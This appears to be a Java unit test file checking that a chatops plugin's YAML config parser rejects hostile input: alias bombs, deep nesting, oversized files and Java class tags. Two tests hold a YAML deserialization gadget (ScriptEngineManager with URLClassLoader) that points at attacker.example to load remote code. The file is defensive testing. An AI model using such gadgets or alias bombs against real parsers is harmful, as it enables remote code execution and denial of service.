package ai.chatops.plugin;

import static ai.chatops.plugin.PluginConfigTest.failure;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import ai.chatops.ConfigurationException;
import java.time.Duration;
import org.junit.jupiter.api.Test;

class HostileYamlTest {
  static final String TAGS_NOT_ALLOWED =
      "tags (!name, !!name) other than the standard !!str, !!int, !!float, !!bool, !!null, !!seq and !!map are"
          + " not allowed; a plugin config holds plain strings, numbers, booleans, lists and maps, and values"
          + " starting with ! must be quoted";
  static final String ALIASES_NOT_ALLOWED =
      "anchors and aliases (&name, *name) are not allowed in a plugin config; write the value out, and quote"
          + " values that start with & or *";

  @Test
  void reportsTheLineOfInvalidYamlSyntax() {
    assertThat(failure("Version: 1\nRoutes:\n  - /v1/jenkins/build\n  bad: [unclosed\n"))
        .hasMessage(
            "jenkins config.yaml line 4, column 3: not valid YAML: while parsing a block collection:"
                + " expected <block end>, but found '?'");
  }

  @Test
  void rejectsABillionLaughsAliasBombQuickly() {
    StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for (char c = 'b'; c <= 'j'; c++) {
      String previous = "*" + (char) (c - 1);
      yaml.append(c).append(": &").append(c).append(" [");
      yaml.append(String.join(",", java.util.Collections.nCopies(9, previous))).append("]\n");
    }

    ConfigurationException e =
        assertTimeoutPreemptively(Duration.ofSeconds(2), () -> failure(yaml.toString()));

    assertThat(e).hasMessage("jenkins config.yaml line 1: " + ALIASES_NOT_ALLOWED);
  }

  @Test
  void rejectsAnAliasEvenToAScalar() {
    assertThat(failure("Version: &v 1\nAuthor: *v\nRoutes: [/v1/jenkins/build]\n"))
        .hasMessage("jenkins config.yaml line 1: " + ALIASES_NOT_ALLOWED);
  }

  @Test
  void rejectsTenThousandLevelsOfNestingWithoutOverflowingTheStack() {
    ConfigurationException e = failure("Version: 1\nRoutes: " + "[".repeat(10_000) + "\n");

    assertThat(e)
        .hasMessage(
            "jenkins config.yaml line 2: lists and maps are nested deeper than 20 levels; a plugin config"
                + " needs 3");
  }

  @Test
  void rejectsADocumentThatIsOnlyNesting() {
    assertThat(failure("[".repeat(10_000) + "]".repeat(10_000)))
        .hasMessageStartingWith("jenkins config.yaml line 1: lists and maps are nested deeper than 20 levels");
  }

  @Test
  void rejectsAJavaClassTagWithoutInstantiatingIt() {
    assertThat(failure("Version: !!java.net.URL [\"http://attacker.example/\"]\nRoutes: [/v1/jenkins/build]\n"))
        .hasMessage("jenkins config.yaml line 1: " + TAGS_NOT_ALLOWED);
  }

  @Test
  void rejectsTheScriptEngineManagerGadget() {
    String gadget =
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
            + " [\"http://attacker.example/\"]]]]\n";

    assertThat(failure(gadget))
        .hasMessage("jenkins config.yaml line 1: " + TAGS_NOT_ALLOWED);
  }

  @Test
  void rejectsALocalTag() {
    assertThat(failure("Version: 1\nRoutes:\n  - !route /v1/jenkins/build\n"))
        .hasMessage("jenkins config.yaml line 3: " + TAGS_NOT_ALLOWED);
  }

  @Test
  void acceptsStandardTags() {
    PluginConfig config =
        PluginConfig.parse("jenkins", "Version: !!str 1.0\nRoutes: !!seq [!!str /v1/jenkins/build]\n");

    assertThat(config.version()).isEqualTo("1.0");
  }

  @Test
  void rejectsAnOversizedDocument() {
    String yaml = "Version: 1\nRoutes: [/v1/jenkins/build]\n" + "# padding\n".repeat(30_000);

    assertThat(failure(yaml))
        .hasMessage(
            "jenkins config.yaml: the document is larger than 262144 characters; a plugin config.yaml is a"
                + " few KiB, check that the right file is read");
  }

  @Test
  void rejectsControlCharacters() {
    assertThat(failure("Version: 1\u0001\nRoutes: [/v1/jenkins/build]\n"))
        .hasMessage(
            "jenkins config.yaml: not valid YAML: character 11 is the control character U+0001; a config file"
                + " is plain text");
  }

  @Test
  void rejectsMoreThanOneDocument() {
    assertThat(failure("Version: 1\nRoutes: [/v1/jenkins/build]\n---\nVersion: 2\n"))
        .hasMessage(
            "jenkins config.yaml line 3, column 1: not valid YAML: expected a single document in the stream:"
                + " but found another document");
  }

  @Test
  void rejectsComplexKeys() {
    assertThat(failure("? [Version]\n: 1\nRoutes: [/v1/jenkins/build]\n"))
        .hasMessage("jenkins config.yaml line 1: keys must be plain names, found a list");
  }
}
